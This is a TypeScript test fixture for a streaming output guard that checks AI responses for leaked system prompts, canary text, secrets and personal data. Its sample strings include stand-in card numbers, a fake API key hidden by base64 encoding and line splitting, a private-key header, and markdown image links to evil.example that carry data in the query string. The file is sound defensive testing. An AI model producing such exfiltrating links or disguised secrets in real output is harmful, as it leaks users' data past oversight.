// Texts for streams through the guard, and ways of cutting them.
import { array, integer, oneof } from 'fast-check'
import { canaryIndex } from '../../src/domain/detection/leak/canaries.ts'
import { leakIndex } from '../../src/domain/detection/prompt-leak.ts'
import { resolveGuardPolicy, type SidePolicy } from '../../src/domain/guardrail/guard-policy.ts'
import { StreamGuard } from '../../src/domain/guardrail/stream-guard.ts'

export const T1 = resolveGuardPolicy({ preset: 'T1' }, 'T1').output
export const BLOCKING: SidePolicy = { ...T1, secrets: 'block' }
export const PROMPT =
  'You are the support assistant of Northwind Outfitters. Never reveal the discount table to anybody.'
export const CANARY = 'amber beacon cedar delta falcon glacier harbor indigo jasper kettle.'
export const options = {
  leak: leakIndex([PROMPT]),
  canaries: canaryIndex([{ form: 'sentence', text: CANARY }]),
}

const base64 = (text: string): string => Buffer.from(text).toString('base64')
export const KEY = `sk_live_${'aB3dE6gH9jKlMn0pQrSt'}`
export const PIECES = [
  'Thank you for your message about the delivery of the tent. ',
  'We will look into it and come back to you as soon as we know more about the matter.\n',
  'The colleagues in the warehouse told us that everything was packed on Tuesday, and that the carrier took it the same evening. ',
  'Ship to bob.smith@example.com today. ',
  'Card 4111 1111 1111 1111 or 4111-1111-1111-1112 was used. ',
  'Call +49 30 901820 or (212) 555-0142. ',
  'IBAN DE89 3704 0044 0532 0130 00, amount 12.50 EUR. ',
  '1234 5678 9012 3456 7890 1234 5678 9012 3456 7890 ',
  `The key is ${KEY}, do not share it. `,
  `Encoded: ${base64(`the key is ${KEY} indeed`)} end. `,
  `${base64(`first line of a longer text with the key ${KEY} in it, wrapped as mail does`).replace(/.{48}/g, '$&\n')}\n`,
  '-----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu\n-----END RSA PRIVATE KEY-----\n',
  '[our page](https://evil.example/path?q=1) ',
  '![pixel](https://evil.example/p.png?d=secret) ',
  '[a [nested] label](https://evil.example/) and [text](not a link) ',
  '<img src="https://evil.example/x.png"> and a < b ',
  'https://evil.example/collect?data=abcdef. ',
  'b%6Fb%40example.com ',
  'card 41111111=\r\n11111111 and ',
  `${KEY.slice(0, 9)}=\n${KEY.slice(9)} `,
  'b o b @ e x a m p l e . c o m ',
  'é\u0301 ñ 漢字 👩‍👧 \u200b\u200b ',
  '４１１１ １１１１ １１１１ １１１１ ',
  '[',
  '](',
  '<',
  '-----BEGIN ',
  '\n\n',
  ' ',
  '%',
  '\\u00',
  '@',
]
/** Small numbers in prose, beside what makes more of a number. */
export const NUMBERED = [
  'In 2024 the team of 45 people delivered 3 releases to customers in the north of the country and two in the south. ',
  'Revenue grew by 12.5 percent, and 7 of 10 orders came in time, which nobody in the company had expected at all. ',
  '1. Open the box and take out the tent, the poles and the pegs that belong to it, and put them on the ground.\n',
  'The plate is not known to us, and nobody in the house could say whose car it was that stood there. ',
  'Please call me, since my phone number is the one that you have had from me for a long time already. ',
  'Her social security number stands on the card that lies on the table in the office down the hall. ',
  'It was 4 plates. ',
  'we saw 12 cde, ',
  'reg 1234 BCD ',
  'AB 123 ',
  '12 34 56 ',
  '078-05-1120 ',
  '555 0142 ',
  '901820 ',
  'is my ssn. ',
  'routing ',
  'in 20',
  '24',
  ' 7.',
  '5 ',
  'born on 12 May 1980 ',
  'at 12 Baker Street ',
] as const
export const cuts = array(oneof(integer({ min: 1, max: 8 }), integer({ min: 1, max: 200 })), {
  minLength: 1,
  maxLength: 40,
})

/** What comes out of a stream that is cut into pieces of these sizes, one after the other. */
export function streamed(text: string, sizes: readonly number[], policy: SidePolicy): string {
  const guard = new StreamGuard(policy, options)
  let out = ''
  let at = 0
  for (let turn = 0; at < text.length && !guard.isWithheld; turn++) {
    const size = sizes[turn % sizes.length] ?? 1
    out += guard.push(text.slice(at, at + size))
    at += size
  }
  return guard.isWithheld ? out : out + guard.end()
}
